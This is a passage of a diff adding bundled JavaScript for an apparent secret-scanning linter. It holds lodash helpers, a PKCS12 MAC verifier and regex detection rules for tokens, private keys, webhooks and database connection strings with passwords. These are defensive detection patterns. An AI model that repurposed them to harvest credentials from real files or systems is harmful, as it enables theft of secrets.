+      path26 = isKey(path26, object3) ? [path26] : castPath(path26);
+      var result, index = -1, length = path26.length;
+      while (++index < length) {
+        var key4 = toKey(path26[index]);
+        if (!(result = object3 != null && hasFunc(object3, key4))) {
+          break;
+        }
+        object3 = object3[key4];
+      }
+      if (result) {
+        return result;
+      }
+      var length = object3 ? object3.length : 0;
+      return !!length && isLength(length) && isIndex(key4, length) && (isArray(object3) || isArguments(object3));
+    }
+    function isFlattenable(value) {
+      return isArray(value) || isArguments(value) || !!(spreadableSymbol && value && value[spreadableSymbol]);
+    }
+    function isIndex(value, length) {
+      length = length == null ? MAX_SAFE_INTEGER : length;
+      return !!length && (typeof value == "number" || reIsUint.test(value)) && (value > -1 && value % 1 == 0 && value < length);
+    }
+    function isIterateeCall(value, index, object3) {
+      if (!isObject2(object3)) {
+        return false;
+      }
+      var type = typeof index;
+      if (type == "number" ? isArrayLike(object3) && isIndex(index, object3.length) : type == "string" && index in object3) {
+        return eq(object3[index], value);
+      }
+      return false;
+    }
+    function isKey(value, object3) {
+      if (isArray(value)) {
+        return false;
+      }
+      var type = typeof value;
+      if (type == "number" || type == "symbol" || type == "boolean" || value == null || isSymbol(value)) {
+        return true;
+      }
+      return reIsPlainProp.test(value) || !reIsDeepProp.test(value) || object3 != null && value in Object(object3);
+    }
+    function isKeyable(value) {
+      var type = typeof value;
+      return type == "string" || type == "number" || type == "symbol" || type == "boolean" ? value !== "__proto__" : value === null;
+    }
+    function isMasked(func) {
+      return !!maskSrcKey && maskSrcKey in func;
+    }
+    function isPrototype(value) {
+      var Ctor = value && value.constructor, proto = typeof Ctor == "function" && Ctor.prototype || objectProto;
+      return value === proto;
+    }
+    function isStrictComparable(value) {
+      return value === value && !isObject2(value);
+    }
+    function matchesStrictComparable(key4, srcValue) {
+      return function(object3) {
+        if (object3 == null) {
+          return false;
+        }
+        return object3[key4] === srcValue && (srcValue !== void 0 || key4 in Object(object3));
+      };
+    }
+    var stringToPath = memoize(function(string2) {
+      string2 = toString(string2);
+      var result = [];
+      if (reLeadingDot.test(string2)) {
+        result.push("");
+      }
+      string2.replace(rePropName, function(match2, number3, quote2, string3) {
+        result.push(quote2 ? string3.replace(reEscapeChar, "$1") : number3 || match2);
+      });
+      return result;
+    });
+    function toKey(value) {
+      if (typeof value == "string" || isSymbol(value)) {
+        return value;
+      }
+      var result = value + "";
+      return result == "0" && 1 / value == -Infinity ? "-0" : result;
+    }
+    function toSource(func) {
+      if (func != null) {
+        try {
+          return funcToString.call(func);
+        } catch (e) {
+        }
+        try {
+          return func + "";
+        } catch (e) {
+        }
+      }
+      return "";
+    }
+    var sortBy = baseRest(function(collection, iteratees) {
+      if (collection == null) {
+        return [];
+      }
+      var length = iteratees.length;
+      if (length > 1 && isIterateeCall(collection, iteratees[0], iteratees[1])) {
+        iteratees = [];
+      } else if (length > 2 && isIterateeCall(iteratees[0], iteratees[1], iteratees[2])) {
+        iteratees = [iteratees[0]];
+      }
+      return baseOrderBy(collection, baseFlatten(iteratees), []);
+    });
+    function memoize(func, resolver) {
+      if (typeof func != "function" || resolver && typeof resolver != "function") {
+        throw new TypeError(FUNC_ERROR_TEXT);
+      }
+      var memoized = function() {
+        var args5 = arguments, key4 = resolver ? resolver.apply(this, args5) : args5[0], cache3 = memoized.cache;
+        if (cache3.has(key4)) {
+          return cache3.get(key4);
+        }
+        var result = func.apply(this, args5);
+        memoized.cache = cache3.set(key4, result);
+        return result;
+      };
+      memoized.cache = new (memoize.Cache || MapCache)();
+      return memoized;
+    }
+    memoize.Cache = MapCache;
+    function eq(value, other) {
+      return value === other || value !== value && other !== other;
+    }
+    function isArguments(value) {
+      return isArrayLikeObject(value) && hasOwnProperty.call(value, "callee") && (!propertyIsEnumerable.call(value, "callee") || objectToString.call(value) == argsTag);
+    }
+    var isArray = Array.isArray;
+    function isArrayLike(value) {
+      return value != null && isLength(value.length) && !isFunction(value);
+    }
+    function isArrayLikeObject(value) {
+      return isObjectLike(value) && isArrayLike(value);
+    }
+    function isFunction(value) {
+      var tag2 = isObject2(value) ? objectToString.call(value) : "";
+      return tag2 == funcTag || tag2 == genTag;
+    }
+    function isLength(value) {
+      return typeof value == "number" && value > -1 && value % 1 == 0 && value <= MAX_SAFE_INTEGER;
+    }
+    function isObject2(value) {
+      var type = typeof value;
+      return !!value && (type == "object" || type == "function");
+    }
+    function isObjectLike(value) {
+      return !!value && typeof value == "object";
+    }
+    function isSymbol(value) {
+      return typeof value == "symbol" || isObjectLike(value) && objectToString.call(value) == symbolTag;
+    }
+    var isTypedArray = nodeIsTypedArray ? baseUnary(nodeIsTypedArray) : baseIsTypedArray;
+    function toString(value) {
+      return value == null ? "" : baseToString(value);
+    }
+    function get2(object3, path26, defaultValue) {
+      var result = object3 == null ? void 0 : baseGet(object3, path26);
+      return result === void 0 ? defaultValue : result;
+    }
+    function hasIn(object3, path26) {
+      return object3 != null && hasPath(object3, path26, baseHasIn);
+    }
+    function keys(object3) {
+      return isArrayLike(object3) ? arrayLikeKeys(object3) : baseKeys(object3);
+    }
+    function identity(value) {
+      return value;
+    }
+    function property(path26) {
+      return isKey(path26) ? baseProperty(toKey(path26)) : basePropertyDeep(path26);
+    }
+    module.exports = sortBy;
+  })(lodash_sortby, lodash_sortby.exports);
+  return lodash_sortby.exports;
+}
+function requireEscapeStringRegexp() {
+  if (hasRequiredEscapeStringRegexp) return escapeStringRegexp;
+  hasRequiredEscapeStringRegexp = 1;
+  escapeStringRegexp = (string2) => {
+    if (typeof string2 !== "string") {
+      throw new TypeError("Expected a string");
+    }
+    return string2.replace(/[|\\{}()[\]^$+*?.]/g, "\\$&").replace(/-/g, "\\x2d");
+  };
+  return escapeStringRegexp;
+}
+function requireRegexpParse() {
+  if (hasRequiredRegexpParse) return regexpParse;
+  hasRequiredRegexpParse = 1;
+  Object.defineProperty(regexpParse, "__esModule", { value: true });
+  regexpParse.isRegExpString = regexpParse.parseRegExpString = void 0;
+  var REGEXP_LITERAL_PATTERN = /^\/(.+)\/([guimysd]*)$/;
+  var parseRegExpString = function(str) {
+    var result = str.match(REGEXP_LITERAL_PATTERN);
+    if (!result) {
+      return null;
+    }
+    return {
+      source: result[1],
+      flagString: result[2]
+    };
+  };
+  regexpParse.parseRegExpString = parseRegExpString;
+  var isRegExpString = function(str) {
+    return REGEXP_LITERAL_PATTERN.test(str);
+  };
+  regexpParse.isRegExpString = isRegExpString;
+  return regexpParse;
+}
+function requireRegexpStringMatcher() {
+  if (hasRequiredRegexpStringMatcher) return regexpStringMatcher;
+  hasRequiredRegexpStringMatcher = 1;
+  (function(exports$1) {
+    var __importDefault = regexpStringMatcher && regexpStringMatcher.__importDefault || function(mod) {
+      return mod && mod.__esModule ? mod : { "default": mod };
+    };
+    Object.defineProperty(exports$1, "__esModule", { value: true });
+    exports$1.matchPatterns = exports$1.createRegExp = void 0;
+    var lodash_uniq_1 = __importDefault(requireLodash_uniq());
+    var lodash_uniqwith_1 = __importDefault(requireLodash_uniqwith());
+    var lodash_sortby_1 = __importDefault(requireLodash_sortby());
+    var escape_string_regexp_1 = __importDefault(requireEscapeStringRegexp());
+    var regexp_parse_1 = requireRegexpParse();
+    var DEFAULT_FLAGS = "ug";
+    var defaultFlags = function(flagsString) {
+      if (flagsString.length === 0) {
+        return DEFAULT_FLAGS;
+      }
+      return (0, lodash_uniq_1.default)((flagsString + DEFAULT_FLAGS).split("")).join("");
+    };
+    var createRegExp = function(patternString, defaultFlag) {
+      if (defaultFlag === void 0) {
+        defaultFlag = DEFAULT_FLAGS;
+      }
+      if (patternString.length === 0) {
+        throw new Error("Empty string can not handled");
+      }
+      if ((0, regexp_parse_1.isRegExpString)(patternString)) {
+        var regExpStructure = (0, regexp_parse_1.parseRegExpString)(patternString);
+        if (regExpStructure) {
+          return new RegExp(regExpStructure.source, defaultFlags(regExpStructure.flagString));
+        }
+        throw new Error('"'.concat(patternString, '" can not parse as RegExp.'));
+      } else {
+        return new RegExp((0, escape_string_regexp_1.default)(patternString), defaultFlag);
+      }
+    };
+    exports$1.createRegExp = createRegExp;
+    var isEqualMatchPatternResult = function(a, b3) {
+      return a.startIndex === b3.startIndex && a.endIndex === b3.endIndex && a.match === b3.match;
+    };
+    var matchPatterns = function(text4, regExpLikeStrings) {
+      var matchPatternResults = [];
+      regExpLikeStrings.map(function(patternString) {
+        return (0, exports$1.createRegExp)(patternString);
+      }).forEach(function(regExp) {
+        var results = text4.matchAll(regExp);
+        Array.from(results).forEach(function(result) {
+          if (result.index === void 0) {
+            return;
+          }
+          var match2 = result[0];
+          var index = result.index;
+          matchPatternResults.push({
+            match: match2,
+            captures: result.slice(1),
+            startIndex: index,
+            endIndex: index + match2.length
+          });
+        });
+      });
+      var uniqResults = (0, lodash_uniqwith_1.default)(matchPatternResults, isEqualMatchPatternResult);
+      return (0, lodash_sortby_1.default)(uniqResults, ["startIndex", "endIndex"]);
+    };
+    exports$1.matchPatterns = matchPatterns;
+  })(regexpStringMatcher);
+  return regexpStringMatcher;
+}
+function readTlv(buf, offset) {
+  if (offset + 2 > buf.length) {
+    throw new Error("PKCS12: truncated TLV header");
+  }
+  const tag2 = buf[offset];
+  const lenByte = buf[offset + 1];
+  let length;
+  let contentStart;
+  if (lenByte < 128) {
+    length = lenByte;
+    contentStart = offset + 2;
+  } else {
+    const lenBytes = lenByte & 127;
+    if (lenBytes === 0 || lenBytes > 4) {
+      throw new Error("PKCS12: unsupported ASN.1 length encoding");
+    }
+    if (offset + 2 + lenBytes > buf.length) {
+      throw new Error("PKCS12: truncated ASN.1 length");
+    }
+    length = 0;
+    for (let i = 0; i < lenBytes; i++) {
+      length = length * 256 + buf[offset + 2 + i];
+    }
+    contentStart = offset + 2 + lenBytes;
+  }
+  const end = contentStart + length;
+  if (end > buf.length) {
+    throw new Error("PKCS12: TLV extends past buffer");
+  }
+  return { tag: tag2, content: buf.subarray(contentStart, end), end };
+}
+function expectTag(tlv, tag2, label3) {
+  if (tlv.tag !== tag2) {
+    throw new Error(`PKCS12: expected ${label3} tag 0x${tag2.toString(16)} but got 0x${tlv.tag.toString(16)}`);
+  }
+}
+function readInteger(tlv) {
+  expectTag(tlv, TAG_INTEGER, "INTEGER");
+  let value = 0;
+  for (const byte of tlv.content) {
+    value = value * 256 + byte;
+  }
+  return value;
+}
+function bytesEqual(a, b3) {
+  if (a.length !== b3.length)
+    return false;
+  let diff2 = 0;
+  for (let i = 0; i < a.length; i++) {
+    diff2 |= a[i] ^ b3[i];
+  }
+  return diff2 === 0;
+}
+function matchHash(oidBytes) {
+  for (const { oid, hash } of MAC_HASHES) {
+    if (bytesEqual(oidBytes, oid))
+      return hash;
+  }
+  return void 0;
+}
+function parsePkcs12(buf) {
+  const pfx = readTlv(buf, 0);
+  expectTag(pfx, TAG_SEQUENCE, "PFX SEQUENCE");
+  const version = readTlv(pfx.content, 0);
+  if (readInteger(version) !== 3) {
+    throw new Error("PKCS12: unsupported version");
+  }
+  const authSafeInfo = readTlv(pfx.content, version.end);
+  expectTag(authSafeInfo, TAG_SEQUENCE, "ContentInfo SEQUENCE");
+  const contentType = readTlv(authSafeInfo.content, 0);
+  expectTag(contentType, TAG_OID, "contentType OID");
+  if (!bytesEqual(contentType.content, OID_DATA)) {
+    throw new Error("PKCS12: unsupported authSafe contentType");
+  }
+  const explicit0 = readTlv(authSafeInfo.content, contentType.end);
+  expectTag(explicit0, TAG_CONTEXT_0, "[0] EXPLICIT");
+  const authSafeOctet = readTlv(explicit0.content, 0);
+  expectTag(authSafeOctet, TAG_OCTET_STRING, "authSafe OCTET STRING");
+  const macData = readTlv(pfx.content, authSafeInfo.end);
+  expectTag(macData, TAG_SEQUENCE, "MacData SEQUENCE");
+  const digestInfo = readTlv(macData.content, 0);
+  expectTag(digestInfo, TAG_SEQUENCE, "DigestInfo SEQUENCE");
+  const alg = readTlv(digestInfo.content, 0);
+  expectTag(alg, TAG_SEQUENCE, "AlgorithmIdentifier SEQUENCE");
+  const algOid = readTlv(alg.content, 0);
+  expectTag(algOid, TAG_OID, "algorithm OID");
+  const macHash = matchHash(algOid.content);
+  if (!macHash) {
+    throw new Error("PKCS12: unsupported MAC digest algorithm");
+  }
+  if (algOid.end < alg.content.length) {
+    const params = readTlv(alg.content, algOid.end);
+    if (params.tag !== TAG_NULL) {
+      throw new Error("PKCS12: unexpected MAC algorithm parameters");
+    }
+  }
+  const digest3 = readTlv(digestInfo.content, alg.end);
+  expectTag(digest3, TAG_OCTET_STRING, "digest OCTET STRING");
+  const salt = readTlv(macData.content, digestInfo.end);
+  expectTag(salt, TAG_OCTET_STRING, "macSalt OCTET STRING");
+  let iterations = 1;
+  if (salt.end < macData.content.length) {
+    const iter = readTlv(macData.content, salt.end);
+    iterations = readInteger(iter);
+  }
+  if (iterations < 1 || iterations > MAX_MAC_ITERATIONS) {
+    throw new Error("PKCS12: MAC iteration count out of range");
+  }
+  return {
+    authSafe: authSafeOctet.content,
+    macHash,
+    macSalt: salt.content,
+    macDigest: digest3.content,
+    iterations
+  };
+}
+function toBufferSource(data) {
+  const copy = new Uint8Array(data.length);
+  copy.set(data);
+  return copy;
+}
+async function digest2(hash, data) {
+  return new Uint8Array(await globalThis.crypto.subtle.digest(hash.name, toBufferSource(data)));
+}
+function padToMultipleOf(src, blockSize) {
+  if (src.length === 0)
+    return new Uint8Array(0);
+  const padded = new Uint8Array(Math.ceil(src.length / blockSize) * blockSize);
+  for (let i = 0; i < padded.length; i++) {
+    padded[i] = src[i % src.length];
+  }
+  return padded;
+}
+function encodePasswordAsBmpString(password) {
+  if (password.length === 0)
+    return new Uint8Array(0);
+  const bytes = new Uint8Array(password.length * 2 + 2);
+  for (let i = 0; i < password.length; i++) {
+    const code3 = password.charCodeAt(i);
+    bytes[i * 2] = code3 >> 8 & 255;
+    bytes[i * 2 + 1] = code3 & 255;
+  }
+  return bytes;
+}
+async function deriveMacKey(hash, password, salt, iterations) {
+  const v2 = hash.blockSize;
+  const u2 = hash.outputSize;
+  const ID_MAC = 3;
+  const D2 = new Uint8Array(v2).fill(ID_MAC);
+  const P3 = padToMultipleOf(encodePasswordAsBmpString(password), v2);
+  const S3 = padToMultipleOf(salt, v2);
+  const DI = new Uint8Array(D2.length + S3.length + P3.length);
+  DI.set(D2, 0);
+  DI.set(S3, D2.length);
+  DI.set(P3, D2.length + S3.length);
+  let A3 = await digest2(hash, DI);
+  for (let i = 1; i < iterations; i++) {
+    A3 = await digest2(hash, A3);
+  }
+  return A3.subarray(0, u2);
+}
+async function verifyPkcs12Mac(pfxBytes, password) {
+  let parsed3;
+  try {
+    parsed3 = parsePkcs12(pfxBytes);
+  } catch {
+    return false;
+  }
+  try {
+    const key4 = await deriveMacKey(parsed3.macHash, password, parsed3.macSalt, parsed3.iterations);
+    const cryptoKey = await globalThis.crypto.subtle.importKey("raw", toBufferSource(key4), { name: "HMAC", hash: parsed3.macHash.name }, false, ["sign"]);
+    const mac = new Uint8Array(await globalThis.crypto.subtle.sign("HMAC", cryptoKey, toBufferSource(parsed3.authSafe)));
+    return bytesEqual(mac, parsed3.macDigest);
+  } catch {
+    return false;
+  }
+}
+async function reportIfFoundPrivateKeyP12Format({ source, context, t: t2 }) {
+  if (!source.filePath) {
+    return;
+  }
+  try {
+    const fs2 = await import("node:fs");
+    const path26 = await import("node:path");
+    const pfxBytes = new Uint8Array(fs2.readFileSync(source.filePath));
+    const isGcpServiceAccountP12 = await verifyPkcs12Mac(pfxBytes, GCP_SERVICE_ACCOUNT_P12_PASSWORD);
+    if (!isGcpServiceAccountP12) {
+      return;
+    }
+    context.report({
+      message: t2("PrivateKeyP12", {
+        FILE_NAME: path26.basename(source.filePath)
+      }),
+      range: [0, source.content.length]
+    });
+  } catch {
+  }
+}
+function reportIfFoundPrivateKeyJSONFormat({ source, context, t: t2 }) {
+  try {
+    const credentialObject = JSON.parse(source.content);
+    const PRIVATE_KEY_PATTERN = /-----BEGIN\s?(DSA|RSA|EC|PGP|OPENSSH)?\s?PRIVATE KEY/gm;
+    const isGCPServiceAccountPrivateKeyJSON = "private_key_id" in credentialObject && "private_key" in credentialObject && PRIVATE_KEY_PATTERN.test(credentialObject["private_key"]);
+    if (!isGCPServiceAccountPrivateKeyJSON) {
+      return;
+    }
+    context.report({
+      message: t2("PrivateKeyJSON", {
+        FILE_NAME: source.filePath ? path2.basename(source.filePath) : ""
+      }),
+      range: [0, source.content.length]
+    });
+  } catch {
+  }
+}
+function reportIfFoundXOauthGitHubToken({ source, options: options2, context, t: t2 }) {
+  const XOAuthPattern = /https?:\/\/(.{1,256}):x-oauth-basic@github.com\//g;
+  const results = source.content.matchAll(XOAuthPattern);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[1] || "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("PackageJSON_xOauthToken", {
+        TOKEN: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFound_AuthTokenInNpmrc({ source, options: options2, context, t: t2 }) {
+  const AuthTokenPattern = /_authToken=([^$].*)/g;
+  const results = source.content.matchAll(AuthTokenPattern);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[1] || "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("Npmrc_authToken", {
+        TOKEN: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFound_NPM_ACCESS_TOKEN({ source, options: options2, context, t: t2 }) {
+  const NPM_ACCESS_TOKEN_PATTERN = new RegExp("(?<!\\p{L})npm_[A-Za-z0-9_]{36}(?![A-Za-z0-9_])", "gu");
+  const results = source.content.matchAll(NPM_ACCESS_TOKEN_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("NPM_ACCESS_TOKEN", {
+        TOKEN: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFoundRawPrivateKey$1({ source, options: options2, context, t: t2 }) {
+  const SLACK_TOKEN_PATTERN = /\b(?:xoxb|xoxp|xapp|xoxa|xoxo|xoxr)-(?:\d-)?(?:[a-zA-Z0-9]{1,40}-)+[a-zA-Z0-9]{1,40}\b/g;
+  const results = source.content.matchAll(SLACK_TOKEN_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("SLACK_TOKEN", {
+        TOKEN: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFoundIncomingWebhook({ source, options: options2, context, t: t2 }) {
+  const IncomingWebhooksPattern = /https:\/\/hooks\.slack\.com\/services\/T[a-zA-Z0-9]{1,40}\/B[a-zA-Z0-9]{1,40}\/[a-zA-Z0-9]{1,40}/gi;
+  const results = source.content.matchAll(IncomingWebhooksPattern);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("IncomingWebhook", {
+        URL: match2
+      }),
+      range: range3
+    });
+  }
+}
+function isVariableLikeString$1(str) {
+  const variablePatterns = [
+    /\$\{[^}]{1,50}\}/,
+    // ${var}
+    /\{\{[^}]{1,50}\}\}/,
+    // {{var}}
+    /\{[^}]{1,50}\}/,
+    // {var}
+    /%[A-Z_]{1,30}%/,
+    // %VAR%
+    /\$[A-Z_]{1,30}/
+    // $VAR
+  ];
+  return variablePatterns.some((pattern) => pattern.test(str));
+}
+function isLikelyRealUsername(username) {
+  if (username.length < 2)
+    return false;
+  if (isVariableLikeString$1(username))
+    return false;
+  if (BUILTIN_IGNORED_PATTERNS$1.some((pattern) => username.toLowerCase().includes(pattern.toLowerCase()))) {
+    return false;
+  }
+  return true;
+}
+function isLikelyRealPassword$1(password) {
+  if (password.length < 4)
+    return false;
+  if (isVariableLikeString$1(password))
+    return false;
+  if (BUILTIN_IGNORED_PATTERNS$1.some((pattern) => password.toLowerCase().includes(pattern.toLowerCase()))) {
+    return false;
+  }
+  if (/^(.)\1{3,}$/.test(password))
+    return false;
+  return true;
+}
+function reportIfFoundBasicAuth({ source, options: options2, context, t: t2 }) {
+  const URL_PATTERN = /(?<protocol>(?:https?|ftp|ftps)):\/\/(?<user>[-a-zA-Z0-9_]{1,256}):(?<password>[-a-zA-Z0-9_]{1,256})@[-a-zA-Z0-9%._+~#=]{1,256}\.[a-zA-Z0-9()]{1,6}\b/g;
+  const results = source.content.matchAll(URL_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    const username = result.groups?.user;
+    const password = result.groups?.password;
+    if (!username || !password)
+      continue;
+    if (!isLikelyRealUsername(username))
+      continue;
+    if (!isLikelyRealPassword$1(password))
+      continue;
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("BasicAuth", {
+        CREDENTIAL: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFoundToken({ source, options: options2, context, t: t2 }) {
+  const NOTION_INTEGRATION_TOKEN_PATTERN = new RegExp("(?<!\\p{L})ntn_[0-9]{11}[A-Za-z0-9]{35}(?![A-Za-z0-9])", "gu");
+  const results = source.content.matchAll(NOTION_INTEGRATION_TOKEN_PATTERN);
+  for (const result of results) {
+    const index = result.index ?? 0;
+    const match2 = result[0] ?? "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("NOTION_INTEGRATION_TOKEN", {
+        TOKEN: match2
+      }),
+      range: range3
+    });
+  }
+}
+function validateBase64KeyContent(base64Content) {
+  if (!/^[A-Za-z0-9+/]+=*$/.test(base64Content)) {
+    return false;
+  }
+  if (base64Content.length < 100) {
+    return false;
+  }
+  const validMagicBytes = /^(MI|b3BlbnNzaC1rZXktdjE)/;
+  if (!validMagicBytes.test(base64Content)) {
+    return false;
+  }
+  return true;
+}
+function reportIfFoundRawPrivateKey({ source, options: options2, context, t: t2 }) {
+  const results = source.content.matchAll(PEM_CONTENT_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    const base64Raw = result[1] || "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    const base64Content = base64Raw.replace(/\s|\\n/g, "");
+    if (!validateBase64KeyContent(base64Content)) {
+      continue;
+    }
+    context.report({
+      message: t2("PrivateKey", {
+        KEY: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFoundKey$3({ source, options: options2, context, t: t2 }) {
+  const SENDGRID_KEY_PATTERN = new RegExp("(?<!\\p{L})SG\\.\\w{1,128}\\.\\w{1,128}([-_]?)\\w{1,128}(?!\\w)", "gu");
+  const results = source.content.matchAll(SENDGRID_KEY_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    if (match2.length !== 69) {
+      continue;
+    }
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("SENDGRID_KEY", {
+        KEY: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFoundKey$2({ source, options: options2, context, t: t2 }) {
+  const SHOPIFY_KEY_PATTERN = new RegExp("(?<!\\p{L})(shppa|shpca|shpat|shpss)_[a-zA-Z0-9]{32,64}(?![a-zA-Z0-9])", "gu");
+  const results = source.content.matchAll(SHOPIFY_KEY_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("SHOPIFY_KEY", {
+        KEY: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFoundKey$1({ pattern, source, options: options2, context, t: t2 }) {
+  const results = source.content.matchAll(pattern);
+  for (const result of results) {
+    const index = result.index || 0;
+    const type = result.groups?.type;
+    const typeName = typeMap.get(type);
+    if (!typeName) {
+      throw new Error("Unknown type:" + typeName);
+    }
+    const match2 = result[0] || "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("GITHUB_TOKEN", {
+        KEY: match2,
+        typeName
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFoundKey({ pattern, source, options: options2, context, t: t2 }) {
+  const results = source.content.matchAll(pattern);
+  for (const result of results) {
+    const index = result.index ?? 0;
+    const match2 = result[0] ?? "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("GITLAB_PERSONAL_ACCESS_TOKEN", {
+        KEY: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFound({ pattern, messageId, source, options: options2, context, t: t2 }) {
+  const results = source.content.matchAll(pattern);
+  for (const result of results) {
+    const index = result.index ?? 0;
+    const match2 = result[0] ?? "";
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    const range3 = [index, index + match2.length];
+    context.report({
+      message: t2(messageId, {
+        TOKEN: match2
+      }),
+      range: range3
+    });
+  }
+}
+function isVariableLikeString(str) {
+  const variablePatterns = [
+    /\$\{[^}]{1,50}\}/,
+    // ${var}
+    /\{\{[^}]{1,50}\}\}/,
+    // {{var}}
+    /\{[^}]{1,50}\}/,
+    // {var}
+    /%[A-Z_]{1,30}%/,
+    // %VAR%
+    /\$[A-Z_]{1,30}/,
+    // $VAR
+    /\$\([^)]{1,50}\)/
+    // $(var)
+  ];
+  return variablePatterns.some((pattern) => pattern.test(str));
+}
+function isLikelyRealPassword(password) {
+  if (password.length < 4)
+    return false;
+  if (isVariableLikeString(password))
+    return false;
+  const passwordLower = password.toLowerCase();
+  if (BUILTIN_IGNORED_PATTERNS.some((pattern) => passwordLower === pattern.toLowerCase())) {
+    return false;
+  }
+  if (/^(.)\1{3,}$/.test(password))
+    return false;
+  return true;
+}
+function reportMongoDBConnectionString({ source, options: options2, context, t: t2 }) {
+  const MONGODB_PATTERN = /mongodb(?:\+srv)?:\/\/(?:(?<username>[^:\/\s]{1,100}):(?<password>[^@\/\s]{1,200})@)?(?<host>[^\/\s?]{1,100})(?:\/(?<database>[^?\s]{0,100}))?(?:\?(?<options>[^\s]{0,500}))?/gi;
+  const results = source.content.matchAll(MONGODB_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    const username = result.groups?.username;
+    const password = result.groups?.password;
+    if (!username || !password)
+      continue;
+    if (!isLikelyRealPassword(password))
+      continue;
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("MongoDBConnection", {
+        URI: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportMySQLConnectionString({ source, options: options2, context, t: t2 }) {
+  const MYSQL_URI_PATTERN = /(?:jdbc:)?mysql(?:x)?:\/\/(?:(?<username>[^:\/\s]{1,100}):(?<password>[^@\/\s]{1,200})@)?(?<host>[^\/\s?]{1,100})(?:\/(?<database>[^?\s]{0,100}))?(?:\?(?<options>[^\s]{0,500}))?/gi;
+  const results = source.content.matchAll(MYSQL_URI_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    const username = result.groups?.username;
+    const password = result.groups?.password;
+    if (!username || !password)
+      continue;
+    if (!isLikelyRealPassword(password))
+      continue;
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("MySQLConnection", {
+        URI: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportPostgreSQLConnectionString({ source, options: options2, context, t: t2 }) {
+  const POSTGRESQL_URI_PATTERN = /postgres(?:ql)?:\/\/(?:(?<username>[^:\/\s]{1,100}):(?<password>[^@\/\s]{1,200})@)?(?<host>[^\/\s?]{1,100})(?:\/(?<database>[^?\s]{0,100}))?(?:\?(?<options>[^\s]{0,500}))?/gi;
+  const results = source.content.matchAll(POSTGRESQL_URI_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    const username = result.groups?.username;
+    const password = result.groups?.password;
+    if (!username || !password)
+      continue;
+    if (!isLikelyRealPassword(password))
+      continue;
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
